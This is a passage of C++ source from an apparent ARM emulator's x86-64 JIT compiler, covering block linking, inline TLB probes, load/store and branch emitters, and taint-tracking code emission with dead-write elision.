      cpu.fastpath_insns_ += sb.n_insns;
      ++cpu.jit_links_;
      return sb.jit->code;
    }
    s.set_pc(to);
    return nullptr;
  }
  if (slot.version == ver && slot.key == key) {
    // Counted as a TB hit when exec folds the jit_links_ delta in.
    ++cpu.jit_links_;
    return slot.target;
  }
  const Cpu::TbFrontEntry& fe = cpu.tb_front_[static_cast<u32>(
      (key * 0x9E3779B97F4A7C15ull) >> (64 - Cpu::kTbFrontBits))];
  if (fe.key == key && fe.version == ver && fe.tb->threaded != nullptr &&
      fe.tb->threaded->jit != nullptr &&
      fe.tb->threaded->jit->code != nullptr &&
      fe.tb->threaded->jit->arena_gen == eng.generation) {
    slot = {ver, key, fe.tb->threaded->jit->code};
    ++cpu.jit_link_patches_;
    ++cpu.jit_links_;
    return slot.target;
  }
  // Untranslated (or not yet compiled) successor: surface to the
  // trampoline, which compiles it and re-enters.
  s.set_pc(to);
  return nullptr;
}

const void* JitRun::co_edge(void* ctx_, void* jb_, u32 slot_idx, u32 from,
                            u32 to, u32 taken) {
  auto* c = static_cast<JitCtx*>(ctx_);
  try {
    return resolve(ctx_, jb_, slot_idx, from, to, taken);
  } catch (...) {
    *c->eptr = std::current_exception();
    c->exit_exc = 1;
    return nullptr;
  }
}

const void* JitRun::co_bx(void* ctx_, void* jb_, const void* uop_) {
  // Threaded L_bx_term (retire already accounted inline by the template).
  auto* c = static_cast<JitCtx*>(ctx_);
  const auto* u = static_cast<const Uop*>(uop_);
  CPUState& s = *c->s;
  try {
    const u32 target = s.regs[u->a];
    if (u->b != 0) s.regs[kRegLR] = s.thumb ? (u->x | 1u) : u->x;
    const u32 from = static_cast<const TbInsn*>(u->p)->pc;
    const u32 to = target & ~1u;
    s.thumb = (target & 1u) != 0;
    const bool taken = to != u->x;
    return resolve(ctx_, jb_, taken ? 0u : 1u, from, to, taken ? 1u : 0u);
  } catch (...) {
    *c->eptr = std::current_exception();
    c->exit_exc = 1;
    return nullptr;
  }
}

const void* JitRun::co_exec_term(void* ctx_, void* jb_, const void* uop_) {
  // Threaded L_exec_term; the template added the body's retire count, this
  // adds the terminal's own only after execute() succeeds (an exception
  // must not count the faulting instruction).
  auto* c = static_cast<JitCtx*>(ctx_);
  const auto* u = static_cast<const Uop*>(uop_);
  CPUState& s = *c->s;
  try {
    const auto* ti = static_cast<const TbInsn*>(u->p);
    s.set_pc(u->imm);
    execute(ti->insn, s, *c->mem);
    ++c->done;
    const u32 to = s.pc();
    const bool taken = to != u->x;
    return resolve(ctx_, jb_, taken ? 0u : 1u, ti->pc, to,
                   taken ? 1u : 0u);
  } catch (...) {
    *c->eptr = std::current_exception();
    c->exit_exc = 1;
    return nullptr;
  }
}

const void* JitRun::co_svc_term(void* ctx_, void* jb_, const void* uop_) {
  // Threaded L_svc_term, including the retire flush before the handler
  // (which may observe or re-enter the Cpu).
  auto* c = static_cast<JitCtx*>(ctx_);
  const auto* u = static_cast<const Uop*>(uop_);
  Cpu& cpu = *c->cpu;
  CPUState& s = *c->s;
  try {
    const auto* ti = static_cast<const TbInsn*>(u->p);
    s.set_pc(u->imm);
    if (ti->insn.op == Op::kSvc &&
        condition_passed(effective_cond(ti->insn, s), s)) {
      if (!cpu.svc_handler_) throw GuestFault("SVC with no kernel attached");
      if (s.thumb && s.itstate != 0) advance_itstate(s);
      s.set_pc(u->x);
      ++c->done;
      cpu.retired_ += c->done - c->flushed;
      c->flushed = c->done;
      cpu.svc_handler_(cpu, ti->insn.imm);
      return nullptr;
    }
    // Condition failed: execute() just advances PC (and ITSTATE).
    execute(ti->insn, s, *c->mem);
    ++c->done;
    return resolve(ctx_, jb_, 1, ti->pc, s.pc(), 0);
  } catch (...) {
    *c->eptr = std::current_exception();
    c->exit_exc = 1;
    return nullptr;
  }
}

// --- Traced-stream callouts ---------------------------------------------

u64 JitRun::co_trace_step(void* ctx_, const void* op_, const void* ti_,
                          u32 written) {
  // One non-inlineable TraceStep (threaded exec_traced_impl's fused-thunk
  // dispatch). The engine's incremental bookkeeping must be reconciled
  // before the handler runs: it may call set_reg, whose count/mask deltas
  // assume the stored state matches the label file.
  auto* c = static_cast<JitCtx*>(ctx_);
  const TaintJitView& v = c->cpu->taint_jit_view_;
  if (written != 0) v.sync(v.sync_ctx, written);
  const auto* op = static_cast<const TraceOp*>(op_);
  const auto* ti = static_cast<const TbInsn*>(ti_);
  try {
    op->fn(op->ctx, *c->cpu, ti->insn, ti->pc);
    return 0;
  } catch (...) {
    c->s->set_pc(ti->pc);  // the hook ran before its instruction retired
    *c->eptr = std::current_exception();
    c->exit_exc = 1;
    return 1;
  }
}

void JitRun::co_taint_sync(void* ctx_, u32 written) {
  auto* c = static_cast<JitCtx*>(ctx_);
  const TaintJitView& v = c->cpu->taint_jit_view_;
  v.sync(v.sync_ctx, written);
}

u32 JitRun::co_shadow_read(void* ctx_, u32 addr, u32 len) {
  auto* c = static_cast<JitCtx*>(ctx_);
  const TaintJitView& v = c->cpu->taint_jit_view_;
  return v.shadow_read(v.mem_ctx, addr, len);
}

void JitRun::co_shadow_write(void* ctx_, u32 addr, u32 len, u32 taint) {
  auto* c = static_cast<JitCtx*>(ctx_);
  const TaintJitView& v = c->cpu->taint_jit_view_;
  v.shadow_write(v.mem_ctx, addr, len, taint);
}

// --- Block compilation --------------------------------------------------

namespace {

// Everything the template emitters reference from outside the block. Filled
// by JitRun::compile (a Cpu friend); the emitters themselves are plain free
// functions and only see what is staged here.
struct EmitEnv {
  JitEngine* eng = nullptr;
  ThreadedBlock* blk = nullptr;
  JitBlock* jb = nullptr;
  u64* links = nullptr;            // &cpu.jit_links_
  const u64* version_addr = nullptr;  // TbCache::version_addr()
};

void emit_epilogue_jump(Asm& a, const EmitEnv& e) {
  a.mov_ri64(RAX, reinterpret_cast<u64>(e.eng->epilogue));
  a.jmp_r(RAX);
}

// Traced-pass emitter state (defined with the traced-stream section below).
// Forward-declared so the shared partial-exit emitters can spill the
// deferred taint bookkeeping on exits that occur mid-traced-body.
struct TraceEmit;
void emit_trace_spill(Asm& a, const TraceEmit& ts);

// Partial exit after a slow store / dense STM that may have killed the
// block: check tb.dead, and when set retire `ri + 1` instructions and
// surface with the resume PC (the store instruction fully retired). In a
// traced body the exit first spills the pending label sync / counter folds
// (`ts`); the fall-through keeps them pending (only one path runs).
void emit_dead_check(Asm& a, const EmitEnv& e, u32 ri, u32 resume_pc,
                     const TraceEmit* ts) {
  a.mov_ri64(RAX, reinterpret_cast<u64>(&e.blk->tb->dead));
  a.cmp_mi8(RAX, 0, 0);
  const std::size_t alive = a.jcc(CC_E);
  if (ts != nullptr) emit_trace_spill(a, *ts);
  a.add_mi64(R15, kCtxDone, ri + 1);
  a.mov_mi32(RBX, kPcOff, resume_pc);
  emit_epilogue_jump(a, e);
  a.bind(alive);
}

// Inline software-TLB probe shared by the load/store templates, mirroring
// tlb_probe_read/tlb_probe_write. On entry esi holds the guest address; on
// a hit `host` holds the slot's host page base and eax the page offset.
// Misses (and page-straddling accesses) collect into `slow_fixups`.
void emit_tlb_probe(Asm& a, u8 tlb_base, u8 host, u32 len,
                    std::vector<std::size_t>& slow_fixups) {
  if (len > 1) {
    a.mov_rr32(RAX, RSI);
    a.alu_ri32(4, RAX, kPageMask);
    a.alu_ri32(7, RAX, kPageSize - len);
    slow_fixups.push_back(a.jcc(CC_A));
  }
  a.mov_rr32(RCX, RSI);
  a.shift_ri32(5, RCX, 12);      // page number
  a.mov_rr32(RAX, RCX);
  a.alu_ri32(4, RAX, kTlbMask);  // slot index
  a.shift_ri32(4, RAX, 4);       // * sizeof(TlbEntry)
  a.alu_rmx32(0x3B, RCX, tlb_base, RAX, 0);  // cmp page, slot.page
  slow_fixups.push_back(a.jcc(CC_NE));
  a.mov_rm64x(host, tlb_base, RAX, 8);  // slot.host
  a.mov_rr32(RAX, RSI);
  a.alu_ri32(4, RAX, kPageMask);  // page offset
}

enum class MemVar : u8 { kOff, kPre, kPost };

// Dense load (threaded LD_TRIPLE): the loaded value lands byte-identically
// to ld_u*/ld_s*; writeback (pre/post, staged in r12 across the potential
// slow call) is applied before the destination write, so rn == rd takes the
// same net effect as the threaded body (rd wins).
void emit_load(Asm& a, const Uop& u, MemVar var, u32 len, bool is_signed) {
  a.mov_rm32(RSI, RBX, reg_off(u.b));
  if (var != MemVar::kPost && u.imm != 0) a.alu_ri32(0, RSI, u.imm);
  if (var == MemVar::kPre) a.mov_rr32(R12, RSI);
  if (var == MemVar::kPost) {
    a.mov_rr32(R12, RSI);
    if (u.imm != 0) a.alu_ri32(0, R12, u.imm);
  }
  std::vector<std::size_t> slow;
  emit_tlb_probe(a, R13, RDX, len, slow);
  if (len == 4) a.mov_rm32x(RAX, RDX, RAX, 0);
  else if (len == 2) a.movzx16_rmx(RAX, RDX, RAX, 0);
  else a.movzx8_rmx(RAX, RDX, RAX, 0);
  const std::size_t join = a.jmp();
  for (const std::size_t f : slow) a.bind(f);
  a.mov_rr64(RDI, R15);  // arg0 = ctx; esi already holds the address
  const void* fn = len == 4 ? reinterpret_cast<const void*>(&co_read32)
                 : len == 2 ? reinterpret_cast<const void*>(&co_read16)
                            : reinterpret_cast<const void*>(&co_read8);
  a.mov_ri64(RAX, reinterpret_cast<u64>(fn));
  a.call_r(RAX);
  a.bind(join);
  if (is_signed) {
    if (len == 2) a.movsx16_rr(RAX, RAX);
    else a.movsx8_rr(RAX, RAX);
  }
  if (var != MemVar::kOff) a.mov_mr32(RBX, reg_off(u.b), R12);
  a.mov_mr32(RBX, reg_off(u.a), RAX);
}

// Dense store (threaded ST_BODY): value read before writeback, writeback
// after the store completes. A TLB-hit store provably cannot have touched
// cached code (watched pages are never write-TLB cached) and skips the dead
// check; the slow path re-checks tb.dead and takes the partial exit.
void emit_store(Asm& a, const EmitEnv& e, const Uop& u, MemVar var, u32 len,
                u32 ri, const TraceEmit* ts) {
  a.mov_rm32(RSI, RBX, reg_off(u.b));
  if (var != MemVar::kPost && u.imm != 0) a.alu_ri32(0, RSI, u.imm);
  if (var == MemVar::kPre) a.mov_rr32(R12, RSI);
  if (var == MemVar::kPost) {
    a.mov_rr32(R12, RSI);
    if (u.imm != 0) a.alu_ri32(0, R12, u.imm);
  }
  a.mov_rm32(RDX, RBX, reg_off(u.a));  // value, before any writeback
  std::vector<std::size_t> slow;
  emit_tlb_probe(a, R14, R8, len, slow);
  if (len == 4) a.mov_mr32x(R8, RAX, 0, RDX);
  else if (len == 2) a.mov_mr16x(R8, RAX, 0, RDX);
  else a.mov_mr8x(R8, RAX, 0, RDX);
  if (var != MemVar::kOff) a.mov_mr32(RBX, reg_off(u.b), R12);
  const std::size_t next = a.jmp();
  for (const std::size_t f : slow) a.bind(f);
  a.mov_rr64(RDI, R15);  // esi = addr, edx = value already in place
  const void* fn = len == 4 ? reinterpret_cast<const void*>(&co_write32)
                 : len == 2 ? reinterpret_cast<const void*>(&co_write16)
                            : reinterpret_cast<const void*>(&co_write8);
  a.mov_ri64(RAX, reinterpret_cast<u64>(fn));
  a.call_r(RAX);
  if (var != MemVar::kOff) a.mov_mr32(RBX, reg_off(u.b), R12);
  emit_dead_check(a, e, ri, u.x, ts);
  a.bind(next);
}

// Quiet-edge link tail (threaded link_edge + link_fall), emitted after the
// terminal's retire accounting. Static targets bake everything; the
// version-fenced slot fast path jumps straight into the successor's code.
// No runtime key compare is needed inline: each slot belongs to exactly one
// static edge site with a fixed (to, thumb), so a version match implies a
// key match (dynamic terminals resolve in C++ with the full compare).
void emit_link(Asm& a, const EmitEnv& e, u8 slot_idx, u32 from, u32 to,
               bool taken) {
  // Host-return / helper-window landings always surface...
  if (to >= kHelperWindowBase) {
    if (taken) {
      // ...but a taken edge may still owe the branch hooks a callout.
      a.cmp_mi32(R15, kCtxEdgeSlow, 0);
      const std::size_t quiet = a.jcc(CC_E);
      a.mov_rr64(RDI, R15);
      a.mov_ri64(RSI, reinterpret_cast<u64>(e.jb));
      a.mov_ri32(RDX, slot_idx);
      a.mov_ri32(RCX, from);
      a.mov_ri32(R8, to);
      a.mov_ri32(R9, 1);
      a.mov_ri64(RAX, reinterpret_cast<u64>(&JitRun::co_edge));
      a.call_r(RAX);
      emit_epilogue_jump(a, e);  // window targets never link
      a.bind(quiet);
    }
    a.mov_mi32(RBX, kPcOff, to);
    emit_epilogue_jump(a, e);
    return;
  }
  // Branch hooks / low helpers live: resolve in C++ (rare configurations).
  const std::size_t slow1 = [&] {
    a.cmp_mi32(R15, kCtxEdgeSlow, 0);
    return a.jcc(CC_NE);
  }();
  // Mid-IT landings surface (blocks are translated without IT context).
  const std::size_t surface = [&] {
    a.cmp_mi8(RBX, kItOff, 0);
    return a.jcc(CC_NE);
  }();
  // Version-fenced direct link.
  a.mov_ri64(RCX, reinterpret_cast<u64>(&e.jb->slots[slot_idx]));
  a.mov_rm64(RAX, RCX, 0);  // slot.version
  a.mov_ri64(RDX, reinterpret_cast<u64>(e.version_addr));
  a.cmp_rm64(RAX, RDX, 0);
  const std::size_t slow2 = a.jcc(CC_NE);
  a.mov_ri64(RAX, reinterpret_cast<u64>(e.links));
  a.inc_m64(RAX, 0);
  a.mov_rm64(RAX, RCX, 16);  // slot.target
  a.jmp_r(RAX);
  // Patch-or-surface through co_edge.
  a.bind(slow1);
  a.bind(slow2);
  a.mov_rr64(RDI, R15);
  a.mov_ri64(RSI, reinterpret_cast<u64>(e.jb));
  a.mov_ri32(RDX, slot_idx);
  a.mov_ri32(RCX, from);
  a.mov_ri32(R8, to);
  a.mov_ri32(R9, taken ? 1 : 0);
  a.mov_ri64(RAX, reinterpret_cast<u64>(&JitRun::co_edge));
  a.call_r(RAX);
  a.test_rr64(RAX, RAX);
  const std::size_t exit_j = a.jcc(CC_E);
  a.jmp_r(RAX);
  a.bind(exit_j);
  emit_epilogue_jump(a, e);
  a.bind(surface);
  a.mov_mi32(RBX, kPcOff, to);
  emit_epilogue_jump(a, e);
}

// Dynamic terminal (bx / exec_term / svc_term): the callout owns the edge
// resolution; emitted code only routes the returned successor.
void emit_dynamic_terminal(Asm& a, const EmitEnv& e, const Uop& u,
                           const void* fn) {
  a.mov_rr64(RDI, R15);
  a.mov_ri64(RSI, reinterpret_cast<u64>(e.jb));
  a.mov_ri64(RDX, reinterpret_cast<u64>(&u));
  a.mov_ri64(RAX, reinterpret_cast<u64>(fn));
  a.call_r(RAX);
  a.test_rr64(RAX, RAX);
  const std::size_t exit_j = a.jcc(CC_E);
  a.jmp_r(RAX);
  a.bind(exit_j);
  emit_epilogue_jump(a, e);
}

// Materialise `al = condition passed` from the CPUState flag bytes (the
// standalone B<cond> terminal — no live host flags to reuse).
void emit_cond_eval(Asm& a, Cond cond) {
  switch (cond) {
    case Cond::kEQ: a.mov_al_m(RBX, kFlagZ); break;
    case Cond::kNE: a.mov_al_m(RBX, kFlagZ); a.xor_al_1(); break;
    case Cond::kCS: a.mov_al_m(RBX, kFlagC); break;
    case Cond::kCC: a.mov_al_m(RBX, kFlagC); a.xor_al_1(); break;
    case Cond::kMI: a.mov_al_m(RBX, kFlagN); break;
    case Cond::kPL: a.mov_al_m(RBX, kFlagN); a.xor_al_1(); break;
    case Cond::kVS: a.mov_al_m(RBX, kFlagV); break;
    case Cond::kVC: a.mov_al_m(RBX, kFlagV); a.xor_al_1(); break;
    case Cond::kHI:
      a.mov_al_m(RBX, kFlagZ);
      a.xor_al_1();
      a.and_al_m(RBX, kFlagC);
      break;
    case Cond::kLS:
      a.mov_al_m(RBX, kFlagC);
      a.xor_al_1();
      a.or_al_m(RBX, kFlagZ);
      break;
    case Cond::kGE:
      a.mov_al_m(RBX, kFlagN);
      a.xor_al_m(RBX, kFlagV);
      a.xor_al_1();
      break;
    case Cond::kLT:
      a.mov_al_m(RBX, kFlagN);
      a.xor_al_m(RBX, kFlagV);
      break;
    case Cond::kGT:
      a.mov_al_m(RBX, kFlagN);
      a.xor_al_m(RBX, kFlagV);
      a.or_al_m(RBX, kFlagZ);
      a.xor_al_1();
      break;
    case Cond::kLE:
      a.mov_al_m(RBX, kFlagN);
      a.xor_al_m(RBX, kFlagV);
      a.or_al_m(RBX, kFlagZ);
      break;
    default:  // kAL never reaches b_cond; treat as taken defensively
      a.mov_al_1();
      break;
  }
  a.test_al();
}

// Two-arm conditional link: jcc on the live host flags selects the taken
// arm (kCcAlways/kCcNever collapse to a single arm).
void emit_cond_arms(Asm& a, const EmitEnv& e, u8 cc, u32 from, u32 taken_to,
                    u32 fall_to) {
  if (cc == kCcAlways) {
    emit_link(a, e, 0, from, taken_to, true);
    return;
  }
  if (cc == kCcNever) {
    emit_link(a, e, 1, from, fall_to, false);
    return;
  }
  const std::size_t taken_j = a.jcc(cc);
  emit_link(a, e, 1, from, fall_to, false);
  a.bind(taken_j);
  emit_link(a, e, 0, from, taken_to, true);
}

// Write the four flag bytes from the live host flags of a sub/cmp
// (set_sub_flags) or add (set_add_flags). setcc does not disturb the host
// flags, so a following jcc still sees them.
void emit_flags_sub(Asm& a) {
  a.setcc_m(CC_S, RBX, kFlagN);
  a.setcc_m(CC_E, RBX, kFlagZ);
  a.setcc_m(CC_AE, RBX, kFlagC);  // ARM C = !borrow
  a.setcc_m(CC_O, RBX, kFlagV);
}
void emit_flags_add(Asm& a) {
  a.setcc_m(CC_S, RBX, kFlagN);
  a.setcc_m(CC_E, RBX, kFlagZ);
  a.setcc_m(CC_B, RBX, kFlagC);  // ARM C = carry-out
  a.setcc_m(CC_O, RBX, kFlagV);
}

// --- Traced-stream emission ---------------------------------------------
//
// The traced body prefixes every instruction's clean template with its
// Table V taint transfer, written raw over the engine's register label file
// (base pinned in RBP). Engine bookkeeping (count/mask/epoch) and the
// tracer's statistics counters are deferred: `pending_w` accumulates the
// label slots written since the last sync callout, `fold_insns` the
// inline-handled steps since the last counter fold, and every path that
// leaves the body (exits, out-of-line step callouts) reconciles both.
// Instructions the emitter cannot inline exactly call out per step
// (co_trace_step), which replays the threaded traced dispatch verbatim.

struct TraceEmit {
  const TaintJitView* view = nullptr;
  u32 pending_w = 0;   // label slots written raw since the last sync
  u32 fold_insns = 0;  // inline-handled steps since the last counter fold
  /// Per-instruction dead label-file writes (block-local backward liveness;
  /// plan_elision). An elided write skips only the raw store — the step
  /// still folds its counters, since the tracer would have run its handler.
  std::vector<u16> elide;
};

// Block-local dead-write elimination over the register label file. A write
// is dead when every path to the next observation point overwrites it:
// "wild" steps (anything that can exit the body, call into the engine, or
// move labels to memory) make all sixteen slots observable, so liveness
// resets to full across them. Reads/writes come from the same Table V
// classification the tracer uses; steps whose thunk is null touch nothing.
std::vector<u16> plan_elision(const ThreadedBlock& blk) {
  const u32 n = blk.n_insns;
  std::vector<u16> reads(n, 0), writes(n, 0), elide(n, 0);
  std::vector<u8> wild(n, 0);
  const std::vector<TraceStep>& steps = blk.traced;
  const std::vector<TbInsn>& insns = blk.tb->insns;

  const auto alu_effects = [&](u32 idx) {
    const TraceStep& st = steps[idx];
    if (st.generic) {
      wild[idx] = 1;
      return;
    }
    if (st.op.fn == nullptr) return;
    const Insn& in = insns[idx].insn;
    switch (in.taint_class()) {
      case TaintClass::kBinaryOp3: {
        u16 r = static_cast<u16>(1u << in.rn);
        if (!in.imm_operand) r |= static_cast<u16>(1u << in.rm);
        if (in.op == Op::kMla || in.op == Op::kUmull ||
            in.op == Op::kSmull) {
          r |= static_cast<u16>(1u << in.rs);
        }
        u16 w = static_cast<u16>(1u << in.rd);
        if (in.op == Op::kUmull || in.op == Op::kSmull) {
          w |= static_cast<u16>(1u << in.rn);  // RdHi
        }
        reads[idx] = r;
        writes[idx] = w;
        break;
      }
      case TaintClass::kBinaryOp2:
        if (!in.imm_operand) {
          reads[idx] = static_cast<u16>((1u << in.rd) | (1u << in.rm));
          writes[idx] = static_cast<u16>(1u << in.rd);
        }
        break;  // imm form: t(Rd) unchanged — no effect at all
      case TaintClass::kUnary:
      case TaintClass::kMovReg:
        reads[idx] = static_cast<u16>(1u << in.rm);
        writes[idx] = static_cast<u16>(1u << in.rd);
        break;
      case TaintClass::kMovImm:
        writes[idx] = static_cast<u16>(1u << in.rd);
        break;
      default:
        wild[idx] = 1;  // an out-of-line handler may observe any slot
        break;
    }
  };
  const auto load_effects = [&](u32 idx) {
    const TraceStep& st = steps[idx];
    if (st.generic) {
      wild[idx] = 1;
      return;
    }
    if (st.op.fn == nullptr) return;
    const Insn& in = insns[idx].insn;
    reads[idx] = static_cast<u16>(1u << in.rn);
    writes[idx] = static_cast<u16>(1u << in.rd);
  };

  u32 ri = 0;
  const u32 kAluLo = static_cast<u32>(UK::k_and_i);
  const u32 kAluHi = static_cast<u32>(UK::k_smull);
  const u32 kLdLo = static_cast<u32>(UK::k_ldr_off);
  const u32 kLdHi = static_cast<u32>(UK::k_ldrsh_post);
  for (std::size_t i = 1; i < blk.ops.size() && ri < n; ++i) {
    const u32 k = static_cast<u32>(uop_kind(blk.ops[i].label));
    if (k >= kAluLo && k <= kAluHi) {
      alu_effects(ri);
      ++ri;
    } else if (k >= kLdLo && k <= kLdHi) {
      load_effects(ri);
      ++ri;
    } else if (k == static_cast<u32>(UK::k_movw_movt)) {
      alu_effects(ri);
      if (ri + 1 < n) alu_effects(ri + 1);
      ri += 2;
    } else if (k == static_cast<u32>(UK::k_ldr_addi)) {
      load_effects(ri);
      if (ri + 1 < n) alu_effects(ri + 1);
      ri += 2;
    } else if (k == static_cast<u32>(UK::k_ldm)) {
      // Clean LDM never exits, so a null-thunk step is fully transparent;
      // a live thunk calls out (the handler writes many slots).
      if (steps[ri].generic || steps[ri].op.fn != nullptr) wild[ri] = 1;
      ++ri;
    } else if (k >= static_cast<u32>(UK::k_cmp0_b) &&
               k <= static_cast<u32>(UK::k_subs_i_b)) {
      wild[ri] = 1;
      if (ri + 1 < n) wild[ri + 1] = 1;
      ri += 2;
    } else if (k == static_cast<u32>(UK::k_end)) {
      break;
    } else {
      // Stores, STM, exec ops, dynamic terminals, unknown shapes: each can
      // exit the body or move labels out of the register file.
      wild[ri] = 1;
      ++ri;
    }
  }

  u16 live = 0xFFFFu;
  for (u32 j = n; j-- > 0;) {
    if (wild[j]) {
      live = 0xFFFFu;
      continue;
    }
    elide[j] = static_cast<u16>(writes[j] & static_cast<u16>(~live));
    live = static_cast<u16>(
        (live & static_cast<u16>(~writes[j])) | reads[j]);
  }
  return elide;
}

// Reconcile-without-clearing: emits the sync callout for the accumulated
// raw writes and the folded counter adds, leaving `ts` untouched. Used on
// conditional exit branches — at runtime exactly one path executes, so the
// fall-through keeping the state pending can never double-count.
void emit_trace_spill(Asm& a, const TraceEmit& ts) {
  if (ts.pending_w != 0) {
    a.mov_rr64(RDI, R15);
    a.mov_ri32(RSI, ts.pending_w);
    a.mov_ri64(RAX, reinterpret_cast<u64>(&JitRun::co_taint_sync));
    a.call_r(RAX);
  }
  if (ts.fold_insns != 0) {
    const TaintJitView& v = *ts.view;
    a.mov_ri64(RAX, reinterpret_cast<u64>(v.traced_ctr));
    a.add_mi64(RAX, 0, ts.fold_insns);
    a.mov_ri64(RAX, reinterpret_cast<u64>(v.prop_ctr));
    a.add_mi64(RAX, 0, ts.fold_insns);
    if (v.cache_ctr != nullptr) {
      a.mov_ri64(RAX, reinterpret_cast<u64>(v.cache_ctr));
      a.add_mi64(RAX, 0, ts.fold_insns);
    }
  }
}

// Spill-and-clear, emitted on the fall-through path before every terminal
// (the link tails and their callouts run with nothing deferred).
void emit_trace_flush(Asm& a, TraceEmit& ts) {
  emit_trace_spill(a, ts);
  ts.pending_w = 0;
  ts.fold_insns = 0;
}

// Out-of-line step: co_trace_step pre-syncs the pending raw writes (baked
// as an immediate), dispatches the prepared thunk, and returns nonzero with
// an exception parked — the exit retires the instructions before this one.
// The thunk self-counts, so only the folds spill on the exception path.
void emit_trace_callout(Asm& a, const EmitEnv& e, TraceEmit& ts, u32 idx,
                        u32 ri) {
  const TraceStep& st = e.blk->traced[idx];
  const TbInsn& ti = e.blk->tb->insns[idx];
  a.mov_rr64(RDI, R15);
  a.mov_ri64(RSI, reinterpret_cast<u64>(&st.op));
  a.mov_ri64(RDX, reinterpret_cast<u64>(&ti));
  a.mov_ri32(RCX, ts.pending_w);
  a.mov_ri64(RAX, reinterpret_cast<u64>(&JitRun::co_trace_step));
  a.call_r(RAX);
  ts.pending_w = 0;  // synced by the callout on both outcomes
  a.test_rr64(RAX, RAX);
  const std::size_t ok = a.jcc(CC_E);
  emit_trace_spill(a, ts);
  if (ri > 0) a.add_mi64(R15, kCtxDone, ri);
  emit_epilogue_jump(a, e);
  a.bind(ok);
}

// Inline Table V register-to-register transfer for `in` (the tracer handler
// transliterated over the raw label file at RBP), honouring the per-step
// dead-write mask `em`. Returns false when the class is not a pure register
// transfer (the caller falls back to a step callout).
bool emit_taint_alu(Asm& a, const Insn& in, u16 em, TraceEmit& ts) {
  switch (in.taint_class()) {
    case TaintClass::kBinaryOp3: {
      const bool acc = in.op == Op::kMla || in.op == Op::kUmull ||
                       in.op == Op::kSmull;
      const bool dhi = in.op == Op::kUmull || in.op == Op::kSmull;
      u16 w = static_cast<u16>(1u << in.rd);
      if (dhi) w |= static_cast<u16>(1u << in.rn);
      w &= static_cast<u16>(~em);
      ++ts.fold_insns;
      if (w == 0) return true;  // every write dead: reads have no effect
      a.mov_rm32(RAX, RBP, 4 * in.rn);
      if (!in.imm_operand) a.alu_rm32(0x0B, RAX, RBP, 4 * in.rm);
      if (acc) a.alu_rm32(0x0B, RAX, RBP, 4 * in.rs);
      if ((w & (1u << in.rd)) != 0) a.mov_mr32(RBP, 4 * in.rd, RAX);
      if (dhi && (w & (1u << in.rn)) != 0) a.mov_mr32(RBP, 4 * in.rn, RAX);
      ts.pending_w |= w;
      return true;
    }
    case TaintClass::kBinaryOp2:
      ++ts.fold_insns;
      // Immediate form sets t(Rd) to its own value — a provable no-op on
      // the raw file (the engine's derived state cannot change either).
      if (in.imm_operand || (em & (1u << in.rd)) != 0) return true;
      a.mov_rm32(RAX, RBP, 4 * in.rd);
      a.alu_rm32(0x0B, RAX, RBP, 4 * in.rm);
      a.mov_mr32(RBP, 4 * in.rd, RAX);
      ts.pending_w |= 1u << in.rd;
      return true;
    case TaintClass::kUnary:
    case TaintClass::kMovReg:
      ++ts.fold_insns;
      if ((em & (1u << in.rd)) != 0) return true;
      a.mov_rm32(RAX, RBP, 4 * in.rm);
      a.mov_mr32(RBP, 4 * in.rd, RAX);
      ts.pending_w |= 1u << in.rd;
      return true;
    case TaintClass::kMovImm:
      ++ts.fold_insns;
      if ((em & (1u << in.rd)) != 0) return true;
      a.mov_mi32(RBP, 4 * in.rd, kTaintClear);
      ts.pending_w |= 1u << in.rd;
      return true;
    default:
      return false;
  }
}

// Inline shadow-TLB probe shared by the taint load/store prefixes. On entry
// esi holds the effective address; on a hit RDX holds the page's label
// array and eax the byte offset (scaled by the caller). Misses and page
// straddles collect into `slow`. Uses only RAX/RCX/RDX (+ RSI preserved),
// so the clean template's pins stay untouched.
void emit_shadow_probe(Asm& a, const TaintJitView& v, u32 len,
                       std::vector<std::size_t>& slow) {
  if (len > 1) {
    a.mov_rr32(RAX, RSI);
    a.alu_ri32(4, RAX, kPageMask);
    a.alu_ri32(7, RAX, kPageSize - len);
    slow.push_back(a.jcc(CC_A));
  }
  a.mov_rr32(RCX, RSI);
  a.shift_ri32(5, RCX, 12);  // page number (shadow pages are 4K too)
  a.mov_rr32(RAX, RCX);
  a.alu_ri32(4, RAX, v.shadow_tlb_slots - 1);
  a.shift_ri32(4, RAX, 4);  // * 16-byte entries (page at +0, labels at +8)
  a.mov_ri64(RDX, reinterpret_cast<u64>(v.shadow_tlb));
  a.alu_rmx32(0x3B, RCX, RDX, RAX, 0);
  slow.push_back(a.jcc(CC_NE));
  a.mov_rm64x(RDX, RDX, RAX, 8);
  a.mov_rr32(RAX, RSI);
  a.alu_ri32(4, RAX, kPageMask);
}

// Taint prefix of a dense load: t(Rd) = t(M[addr, len]) | t(Rn), with the
// per-byte labels read straight off the shadow page on a TLB hit and the
// bookkeeping-complete co_shadow_read on a miss/straddle. The effective
// address replays the clean template's pre-execution computation (the
// prefix runs before the instruction, like the hook it replaces).
void emit_taint_load(Asm& a, const TaintJitView& v, const Uop& u, MemVar var,
                     u32 len, u16 em, TraceEmit& ts) {
  ++ts.fold_insns;
  if ((em & (1u << u.a)) != 0) return;  // dead destination: reads effect-free
  a.mov_rm32(RSI, RBX, reg_off(u.b));
  if (var != MemVar::kPost && u.imm != 0) a.alu_ri32(0, RSI, u.imm);
  std::vector<std::size_t> slow;
  emit_shadow_probe(a, v, len, slow);
  a.shift_ri32(4, RAX, 2);  // label slots are u32, one per guest byte
  a.mov_rm32x(RCX, RDX, RAX, 0);
  if (len >= 2) a.alu_rmx32(0x0B, RCX, RDX, RAX, 4);
  if (len == 4) {
    a.alu_rmx32(0x0B, RCX, RDX, RAX, 8);
    a.alu_rmx32(0x0B, RCX, RDX, RAX, 12);
  }
  const std::size_t join = a.jmp();
  for (const std::size_t f : slow) a.bind(f);
  a.mov_rr64(RDI, R15);  // esi = addr already in place
  a.mov_ri32(RDX, len);
  a.mov_ri64(RAX, reinterpret_cast<u64>(&JitRun::co_shadow_read));
  a.call_r(RAX);
  a.mov_rr32(RCX, RAX);
  a.bind(join);
  a.alu_rm32(0x0B, RCX, RBP, 4 * u.b);  // | t(Rn)
  a.mov_mr32(RBP, 4 * u.a, RCX);
  ts.pending_w |= 1u << u.a;
}

// Taint prefix of a dense store: t(M[addr, len]) = t(Rd). The fast path
// proves the transfer a no-op (clean source label, clean target range —
// set_range with kTaintClear over already-clear bytes does no bookkeeping);
// everything else routes through co_shadow_write. Never elided: memory
// labels are globally observable.
